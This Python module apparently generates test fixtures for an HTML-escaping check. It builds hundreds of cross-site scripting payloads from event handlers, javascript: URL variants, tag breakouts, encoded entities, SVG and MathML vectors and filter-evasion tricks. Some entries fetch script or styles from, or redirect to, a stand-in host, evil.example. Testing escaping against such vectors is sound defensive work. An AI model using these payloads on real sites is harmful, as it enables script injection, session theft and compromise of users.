"""Hostile texts, made by families: each would run somewhere if it were not escaped."""

from __future__ import annotations

from itertools import product

CALL = "xss(1)"
"""What a vector runs when it is alive; the browser test defines it and counts."""

_EVENTS = (
    *("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "onclick"),
    *("onpointerenter", "onanimationstart", "onbeforeinput", "oncut", "onwheel"),
)
_URLS = (
    *("javascript", "JaVaScRiPt", "java\tscript", " javascript", "vbscript", "\x01j"),
    *("java\nscript", "java\rscript", "\x00javascript", "javascript&colon;//%0a"),
    *("&#106;avascript", "\u00a0javascript"),  # NO-BREAK SPACE
)
_WAYS_OUT = (
    *("", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "]]>", "`>"),
    *("</style>", "</noscript>", "</option></select>", "</bdi></mark>", "--!>"),
)
_BETWEEN = ("/", "\t", "\n", "\f", "\r", "/ /", " / ", "//")
_ENTITIES = (
    "&lt;{}&gt;",
    "&#60;{}&#62;",
    "&#x3c;{}&#x3e;",
    "&amp;lt;{}&amp;gt;",
    "%3C{}%3E",
    "%253C{}%253E",
    "\\u003c{}\\u003e",
    "\\x3c{}\\x3e",
    "&LT{}&GT",
)


def _elements() -> list[str]:
    """Elements that run by themselves, behind every way out of where a text stands."""
    alive = (
        f"<script>{CALL}</script>",
        f"<img src=x onerror={CALL}>",
        f"<svg onload={CALL}>",
        f"<iframe srcdoc='<script>parent.{CALL}</script>'>",
        f"<input autofocus onfocus={CALL}>",
        f"<details open ontoggle={CALL}>",
        f"<audio src=x onerror={CALL}>",
        f"<iframe src='javascript:parent.{CALL}'></iframe>",
        f"<body onload={CALL}>",
        f"<object data=x onerror={CALL}>",
        f"<select autofocus onfocus={CALL}></select>",
        f"<video><source src=x onerror={CALL}></video>",
        f"<link rel=stylesheet href=x onerror={CALL}>",
        f"<style onload={CALL}></style>",
    )
    return [out + element for out, element in product(_WAYS_OUT, alive)]


def _attributes() -> list[str]:
    """Attributes that would join the element a text stands in."""
    quotes = ('"', "'", "`", "")
    return [
        f"س{quote} {event}={quote}{CALL}{quote} autofocus tabindex={quote}1"
        for quote, event in product(quotes, _EVENTS)
    ]


def _odd_spaces() -> list[str]:
    """Elements whose parts are held apart by other signs than a space."""
    return [
        form.format(*[space] * 2)
        for space, form in product(
            _BETWEEN,
            (f"<img{{}}src=x{{}}onerror={CALL}>", f"<svg{{}}id=x{{}}onload={CALL}>"),
        )
    ]


def _urls() -> list[str]:
    """Addresses that run when they are opened, alone and in elements."""
    bare = [f"{scheme}:{CALL}" for scheme in _URLS]
    return (
        bare
        + [f'<a href="{url}" id=live>اضغط</a>' for url in bare]
        + [f"<form action='{url}'><button formaction='{url}'>" for url in bare]
        + [f"data:text/html,<script>{CALL}</script>", f"//evil.example/{CALL}.js"]
    )


def _drawings() -> list[str]:
    """Drawings and formulas, which have elements and rules of their own."""
    return [
        f"<svg><script>{CALL}</script></svg>",
        f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
        f"<svg><a xlink:href='javascript:{CALL}'><text y=20>س</text></a></svg>",
        f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
        f"<svg><style><img src=x onerror={CALL}></style></svg>",
        f"<math><mtext><style><img src=x onerror={CALL}></style></mtext></math>",
        f"<math href='javascript:{CALL}'>س</math>",
        f"<svg><use href='data:image/svg+xml,<svg id=a onload={CALL}></svg>#a'>",
    ]


def _entities() -> list[str]:
    """Markup that becomes alive where a text is decoded once too often."""
    inside = (
        f"img src=x onerror={CALL}",
        f"script>{CALL}</script",
        f"svg onload={CALL}",
    )
    return [form.format(text) for form, text in product(_ENTITIES, inside)]


def _others() -> list[str]:
    """Styles, templates, JSON, odd letters, and what a search marks in the middle."""
    return [
        f"<style>@import'//evil.example/{CALL}';</style>",
        "<link rel=stylesheet href=//evil.example/a.css>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<base href=//evil.example/>",
        "{{ 7|add:7 }}{% now 'Y' %}{% include 'base.html' %}",
        "%(n)s {n} ${7*7} #{7*7}",
        f"\u2028{CALL}\u2029//",  # LINE SEPARATOR, PARAGRAPH SEPARATOR
        f'","x":"</script><script>{CALL}</script>',
        f"<mark><script>{CALL}</script></mark>",
        f"<scr<script>ipt>{CALL}</scr</script>ipt>",
        f"＜script＞{CALL}＜/script＞",  # full-width signs
        f"<ſcript>{CALL}</ſcript>",  # a letter whose capital is S
        f"<img src=x onerror={CALL}//",
        f"<img/src='x'/onerror={CALL}>",
        f"<IMG SRC=x OnErRoR={CALL}>",
        f"<details open ontoggle={CALL}>",
        f"<video><source onerror={CALL}></video>",
        f"<template><script>{CALL}</script></template>",
        f"<!--><img src=x onerror={CALL}>-->",
        f"<![CDATA[<img src=x onerror={CALL}>]]>",
        f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{CALL}",
        f"\u202e<img src=x onerror={CALL}>\u202c",  # RIGHT-TO-LEFT OVERRIDE and its end
    ]


VECTORS = list(
    dict.fromkeys(
        [
            *_elements(),
            *_attributes(),
            *_odd_spaces(),
            *_urls(),
            *_drawings(),
            *_entities(),
            *_others(),
        ]
    )
)
